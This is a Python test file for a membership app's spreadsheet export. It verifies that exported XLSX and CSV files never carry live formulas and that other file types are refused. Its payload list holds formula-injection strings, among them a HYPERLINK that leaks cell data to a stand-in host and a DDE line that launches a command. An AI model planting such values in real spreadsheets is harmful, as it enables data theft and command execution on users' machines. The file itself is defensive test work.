"""Exported lists never carry a live formula, and a .csv name gets real CSV (issue 13, point 5)."""

from __future__ import annotations

import csv
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from handbook_desktop.cli import main
from handbook_desktop.services.excel.writer import export_members
from handbook_desktop.services.members import MemberFilter, iter_rows
from handbook_desktop.store.models import Member

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(1)",
            "\t=1+1", "\r=1+1"]


def _plant(database) -> list[str]:
    """Crafted values in the free-text fields of the first members, as an import or an edit could leave them."""
    with database.session() as session:
        members = session.scalars(select(Member).where(Member.deleted_at.is_(None)).order_by(Member.id)
                                  .limit(len(PAYLOADS))).all()
        for member, payload in zip(members, PAYLOADS):
            member.full_name = payload
            member.notes = payload
            member.workplace = payload
    return PAYLOADS


def _formula_elements(path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(len(re.findall(rb"<f[ >]", archive.read(name))) for name in archive.namelist()
                   if name.startswith("xl/worksheets/"))


def test_no_exported_cell_is_a_formula(demo_db, tmp_path):
    payloads = _plant(demo_db)
    path = tmp_path / "ds.xlsx"
    with demo_db.read() as session:
        export_members(iter_rows(session, MemberFilter(), full=True), path, title="=Danh sách")
    assert _formula_elements(path) == 0  # the sheet XML holds no <f> element at all
    sheet = load_workbook(path).active
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value in payloads:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.quotePrefix, (cell.coordinate, cell.value)
                found[cell.value] = found.get(cell.value, 0) + 1
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert set(found) == set(payloads) and all(n == 3 for n in found.values())  # name, notes, workplace
    assert sheet.cell(row=1, column=1).value == "=DANH SÁCH" and sheet.cell(row=1, column=1).data_type == "s"


def test_import_report_echoes_crafted_cells_as_text(db, secretary, tmp_path):
    from openpyxl import Workbook

    from handbook_desktop.services.excel.importer import plan_import
    from handbook_desktop.services.excel.writer import write_report

    source = tmp_path / "vao.xlsx"
    workbook = Workbook()
    workbook.active.append(["Họ và tên", "Ngày sinh", "Số CCCD", "Nơi làm việc"])
    for payload in PAYLOADS:
        workbook.active.append([payload, "01/02/1970", "001070000001", payload])
    workbook.save(source)
    with db.read() as session:
        plan = plan_import(session, source)
    report = tmp_path / "ketqua.xlsx"
    write_report(plan, report)
    assert _formula_elements(report) == 0
    cells = [c for row in load_workbook(report).active.iter_rows() for c in row if c.value in PAYLOADS]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_cli_export_xlsx_and_real_csv(demo_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("HANDBOOK_PASSWORD", "demo1234")
    payloads = _plant(demo_db)
    path = str(demo_db.file)
    demo_db.close()
    xlsx = tmp_path / "ds.xlsx"
    assert main(["--db", path, "members", "export", str(xlsx)]) == 0
    assert _formula_elements(xlsx) == 0
    target = tmp_path / "ds.csv"
    assert main(["--db", path, "members", "export", str(target)]) == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"PK")  # UTF-8 with BOM, not a zip
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    assert header[:3] == ["STT", "Chi bộ", "Họ và tên"]
    names = [row[2] for row in rows[1:]]
    assert len(rows) - 1 == int(capsys.readouterr().out.split("Đã xuất ")[-1].split()[0])
    for payload in payloads:
        assert "'" + payload in names  # an apostrophe keeps it text when Excel opens the CSV
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert "Nguyễn" in raw.decode("utf-8-sig") or "Trần" in raw.decode("utf-8-sig")


def test_other_file_names_are_refused_before_anything_is_written(demo_db, tmp_path, capsys, monkeypatch):
    from handbook_desktop.services.errors import UserError

    for name in ("ds.txt", "ds"):
        with pytest.raises(UserError, match="chỉ ghi được tệp .xlsx, .csv"):
            export_members(iter([]), tmp_path / name, title="Danh sách")
    monkeypatch.setenv("HANDBOOK_PASSWORD", "demo1234")
    path = str(demo_db.file)
    demo_db.close()
    assert main(["--db", path, "members", "export", str(tmp_path / "ds.xls")]) == 1
    assert "chỉ ghi được tệp .xlsx, .csv" in capsys.readouterr().err
    source = tmp_path / "vao.xlsx"
    from handbook_desktop.services.excel.writer import write_template

    write_template(source)
    assert main(["--db", path, "members", "import", str(source), "--report", str(tmp_path / "kq.csv")]) == 1
    assert "chỉ ghi được tệp .xlsx" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(("ds", "kq"))) == []
